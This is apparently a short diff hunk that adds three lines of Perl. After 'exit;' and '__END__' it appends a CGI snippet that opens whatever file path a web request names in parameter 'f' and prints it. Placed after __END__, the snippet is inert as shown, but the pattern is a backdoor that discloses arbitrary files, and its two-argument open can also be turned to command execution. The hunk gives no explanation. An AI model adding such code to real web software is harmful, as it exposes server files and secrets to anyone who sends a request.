@@ -1,0 +1,3 @@
+exit;
+__END__
+my$f=CGI::param('f');open(F,$f);print while(<F>);print <F>;
